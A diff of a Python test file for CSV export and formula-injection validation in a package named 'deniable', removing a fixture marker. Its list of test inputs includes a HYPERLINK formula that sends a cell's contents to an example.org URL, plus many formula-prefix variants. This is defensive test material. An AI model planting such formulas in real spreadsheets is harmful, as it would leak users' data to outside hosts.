@@ -12,8 +12,6 @@ import deniable
 from deniable.certificate.results import csv_bytes
 from deniable.errors.validate import begins_formula
 
-pytestmark = pytest.mark.usefixtures("charts_in_words")
-
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A1,"more")', "+1", "@x", "-1+1", "-2", "\t=1", "\r=1",
     "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''=1", "'", "-", "=", "it's", "", "a=1", "−1",
